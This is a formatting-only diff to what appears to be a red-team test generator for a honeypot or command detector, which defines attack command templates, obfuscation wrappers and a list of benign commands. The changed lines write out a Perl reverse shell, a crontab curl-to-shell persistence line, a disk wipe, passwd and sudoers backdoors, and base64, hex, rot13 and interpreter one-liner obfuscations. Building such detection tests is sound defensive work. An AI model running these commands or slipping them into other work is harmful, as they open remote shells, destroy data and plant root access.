@@ -54,7 +54,7 @@ CORES: dict[str, Core] = {
         ("reverse_shell",),
     ),
     "reverse_shell_perl": Core(
-        f"perl -e 'use Socket;$i=\"{HOST}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+        f'perl -e \'use Socket;$i="{HOST}";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
         'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
         'open(STDERR,">&S");exec("/bin/sh -i");};\'',
         ("perl",),
@@ -65,7 +65,9 @@ CORES: dict[str, Core] = {
         f"echo '* * * * * root curl -s http://{HOST}/p | sh' >> /etc/crontab", ("bash",), ("persistence",)
     ),
     "disk_wipe": Core("dd if=/dev/zero of=/dev/sda bs=4k count=8", ("dd",), ("disk_wipe",)),
-    "uid0_account": Core("echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd", ("bash",), ("privilege_escalation",)),
+    "uid0_account": Core(
+        "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd", ("bash",), ("privilege_escalation",)
+    ),
     "sudoers_backdoor": Core(
         "echo 'alice ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", ("bash",), ("privilege_escalation",)
     ),
@@ -107,7 +109,7 @@ def obfuscations(command: str) -> dict[str, tuple[str, tuple[str, ...]]]:
         "base64_pipe": (f"echo {b64} | base64 -d | bash", ("base64",)),
         "hex_xxd": (f"echo {hexed} | xxd -r -p | bash", ("xxd",)),
         "printf_escapes": (f"bash -c \"$(printf '{escaped}')\"", ("printf",)),
-        "variables": (f"a={_quote(command[:half])}; b={_quote(command[half:])}; eval \"$a$b\"", ()),
+        "variables": (f'a={_quote(command[:half])}; b={_quote(command[half:])}; eval "$a$b"', ()),
         "reversed": (f"echo {_quote(command[::-1])} | rev | bash", ("rev",)),
         "rot13": (
             f"echo {_quote(codecs.encode(command, 'rot13'))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash",
@@ -115,19 +117,20 @@ def obfuscations(command: str) -> dict[str, tuple[str, tuple[str, ...]]]:
         ),
         "gzip_base64": (f"echo {gz} | base64 -d | gunzip | bash", ("base64", "gunzip")),
         "python_one_liner": (
-            f"python3 -c 'import base64,os;os.execvp(\"bash\",[\"bash\",\"-c\",base64.b64decode(\"{b64}\").decode()])'",
+            "python3 -c 'import base64,os;"
+            f'os.execvp("bash",["bash","-c",base64.b64decode("{b64}").decode()])\'',
             ("python3",),
         ),
-        "perl_one_liner": (f"perl -e 'exec(\"bash\",\"-c\",pack(\"H*\",\"{hexed}\"))'", ("perl",)),
+        "perl_one_liner": (f'perl -e \'exec("bash","-c",pack("H*","{hexed}"))\'', ("perl",)),
         "node_one_liner": (
-            "node -e 'require(\"child_process\").spawnSync(\"bash\",[\"-c\",Buffer.from(\""
-            f"{b64}\",\"base64\").toString()],{{stdio:\"inherit\"}})'",
+            'node -e \'require("child_process").spawnSync("bash",["-c",Buffer.from("'
+            f'{b64}","base64").toString()],{{stdio:"inherit"}})\'',
             ("node",),
         ),
         "staged_file": (f"echo {b64} | base64 -d > /tmp/.s; . /tmp/.s", ("base64",)),
-        "sudo_wrapped": (f"sudo bash -c \"$(echo {b64} | base64 -d)\"", ("base64",)),
+        "sudo_wrapped": (f'sudo bash -c "$(echo {b64} | base64 -d)"', ("base64",)),
         "command_substitution_name": (
-            f"$(echo YmFzaA== | base64 -d) -c \"$(echo {b64} | base64 -d)\"",
+            f'$(echo YmFzaA== | base64 -d) -c "$(echo {b64} | base64 -d)"',
             ("base64",),
         ),
     }
@@ -152,7 +155,9 @@ def red_team() -> list[Variant]:
 
 def installed(programs: tuple[str, ...]) -> bool:
     """Whether this machine has every program (the honeypot can only show what is installed)."""
-    return all(shutil.which(program, path="/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin") for program in programs)
+    return all(
+        shutil.which(program, path="/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin") for program in programs
+    )
 
 
 BENIGN: tuple[str, ...] = (
@@ -191,7 +196,7 @@ BENIGN: tuple[str, ...] = (
     "python3 -c 'import json; print(json.dumps({\"a\": 1}))'",
     "python3 -m json.tool config.xml 2>/dev/null || echo not json",
     "echo 'echo hello from a pipe' | bash",
-    "for f in *.txt; do echo \"$f: $(wc -l < \"$f\")\"; done",
+    'for f in *.txt; do echo "$f: $(wc -l < "$f")"; done',
     "seq 1 20 | xargs -n 4 echo",
     "head -c 32 /dev/urandom | base64",
     "echo aGVsbG8K | base64 -d",
